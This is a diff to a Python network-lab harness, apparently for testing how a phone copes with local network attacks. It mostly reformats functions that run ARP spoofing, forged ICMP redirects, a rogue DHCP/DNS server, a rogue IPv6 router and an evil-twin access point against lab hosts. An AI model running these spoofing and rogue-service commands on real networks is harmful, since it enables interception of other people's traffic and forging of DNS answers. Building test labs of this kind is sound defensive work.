@@ -16,11 +16,22 @@ def arp_spoof(lab: Lab, place: Place, *, hide_ttl: bool = False):
 
     --hide-ttl makes up for the hop that forwarding takes.
     """
-    hidden = filtered(place, "-t mangle PREROUTING -i wlan0 -j TTL --ttl-inc 1 -s 0.0.0.0/0") if hide_ttl else contextlib.nullcontext()
-    with hidden, lab.running(place, "arpspoof", "arpspoof", "-i", "wlan0", "-r", "-t", at.PHONE, at.GATEWAY) as daemon:
-        daemon.wait_until(lambda: at.ATTACKER_MAC in neighbour(lab, at.GATEWAY), "the phone's changed neighbour")
+    hidden = (
+        filtered(place, "-t mangle PREROUTING -i wlan0 -j TTL --ttl-inc 1 -s 0.0.0.0/0")
+        if hide_ttl
+        else contextlib.nullcontext()
+    )
+    with (
+        hidden,
+        place.start("arpspoof", "arpspoof", "-i", "wlan0", "-r", "-t", at.PHONE, at.GATEWAY) as daemon,
+    ):
+        daemon.wait_until(
+            lambda: at.ATTACKER_MAC in neighbour(lab, at.GATEWAY), "the phone's changed neighbour"
+        )
         yield
-        daemon.send(signal.SIGTERM)  # it tells the neighbours the truth again, for ten seconds; the first word is enough
+        daemon.send(
+            signal.SIGTERM
+        )  # it tells the neighbours the truth again, for ten seconds; the first word is enough
         daemon.wait_until(lambda: at.GATEWAY_MAC in neighbour(lab, at.GATEWAY), "the phone's true neighbour")
         daemon.send(signal.SIGKILL)
 
@@ -32,7 +43,7 @@ def icmp_redirect(lab: Lab, place: Place, *, to: str = "a.canary.test,b.canary.t
         for host in to.split(","):
             forged = ["--icmp", "--icmptype", 5, "--icmpcode", 1, "-a", at.GATEWAY, "--icmp-gw", at.ATTACKER]
             about = ["--icmp-ipsrc", at.PHONE, "--icmp-ipdst", at.address_of(host).v4, "--icmp-ipproto", 1]
-            stack.enter_context(lab.running(place, f"redirect-{host}", "hping3", *forged, *about, at.PHONE))
+            stack.enter_context(place.start(f"redirect-{host}", "hping3", *forged, *about, at.PHONE))
         lab.settle()
         yield
     lab.phone.run("ip route flush cache")  # a real one forgets in five minutes
@@ -40,12 +51,18 @@ def icmp_redirect(lab: Lab, place: Place, *, to: str = "a.canary.test,b.canary.t
 
 @verb("attacker")
 def rogue_dhcp(lab: Lab, place: Place, *, forge: str = ""):
-    """Silences the honest DHCP server and gives the phone the attacker as DNS server; forges names of --forge."""
-    lines = services.lan_lines(lab, "attacker") + [f"server={at.DNS.v4}", f"dhcp-option=3,{at.GATEWAY}", f"dhcp-option=6,{at.ATTACKER}"]
+    """Silences the honest DHCP server and gives the phone the attacker as DNS server.
+
+    That forges the names of --forge (comma between)."""
+    lines = services.lan_lines(lab, "attacker") + [
+        f"server={at.DNS.v4}",
+        f"dhcp-option=3,{at.GATEWAY}",
+        f"dhcp-option=6,{at.ATTACKER}",
+    ]
     lines += [f"address=/{name}/{at.ATTACKER}" for name in forge.split(",") if name]
     file = lab.write("rogue-dhcp.conf", "\n".join(lines).replace("interface=lan0", "interface=wlan0") + "\n")
     starved = filtered(lab.gateway, "INPUT -i lan0 -p udp --dport 67 -j DROP")
-    with starved, lab.running(place, "rogue-dhcp", "dnsmasq", "-C", file, udp=67):
+    with starved, place.start("rogue-dhcp", "dnsmasq", "-C", file, udp=67):
         phone.reconnect(lab)
         yield
     phone.reconnect(lab)
@@ -54,17 +71,22 @@ def rogue_dhcp(lab: Lab, place: Place, *, forge: str = ""):
 @verb("attacker")
 def rogue_router(lab: Lab, place: Place):
     """Advertises the attacker as an IPv6 router of high preference, with radvd."""
-    config = "interface wlan0 { AdvSendAdvert on; AdvDefaultPreference high; MinRtrAdvInterval 3; MaxRtrAdvInterval 4;"
-    config += " prefix fd77::/64 {}; RDNSS fd77::66 {}; };"
+    config = "interface wlan0 { AdvSendAdvert on; AdvDefaultPreference high;"
+    config += " MinRtrAdvInterval 3; MaxRtrAdvInterval 4; prefix fd77::/64 {}; RDNSS fd77::66 {}; };"
     file = lab.write("radvd.conf", config + "\n")
-    with lab.running(place, "radvd", "radvd", "-C", file, "-n", "-m", "stderr", "-p", lab.path("radvd.pid")) as daemon:
-        daemon.wait_until(lambda: "pref high" in lab.phone.run("ip -6 route show default").stdout, "the rogue router at the phone")
+    with place.start(
+        "radvd", "radvd", "-C", file, "-n", "-m", "stderr", "-p", lab.path("radvd.pid")
+    ) as daemon:
+        daemon.wait_until(
+            lambda: "pref high" in lab.phone.run("ip -6 route show default").stdout,
+            "the rogue router at the phone",
+        )
         yield  # radvd withdraws its route as it ends
 
 
 @verb("attacker")
 def evil_twin(lab: Lab, place: Place):
-    """An access point with the home's addresses and another way out; the phone joins it, and later goes home."""
+    """An access point with the home's addresses and another way out; the phone joins it, then goes home."""
     twin = lab.twin
     twin.create(nameserver=at.DNS.v4)
     lab.switch.ip("link add br-twin type bridge", "link set br-twin up")
@@ -78,8 +100,10 @@ def evil_twin(lab: Lab, place: Place):
     )
     twin.sysctl(ipv4__ip_forward=1)
     twin.run("iptables", "-t", "nat", "-A", "POSTROUTING", "-o", "wan0", "-j", "MASQUERADE")
-    file = lab.write("twin-dns.conf", "\n".join([*services.lan_lines(lab, "twin"), f"server={at.DNS.v4}"]) + "\n")
-    with lab.running(twin, "dns", "dnsmasq", "-C", file, udp=67):
+    file = lab.write(
+        "twin-dns.conf", "\n".join([*services.lan_lines(lab, "twin"), f"server={at.DNS.v4}"]) + "\n"
+    )
+    with twin.start("dns", "dnsmasq", "-C", file, udp=67):
         roam(lab, "br-twin", ipv6=False)
         yield
         roam(lab, "br0")
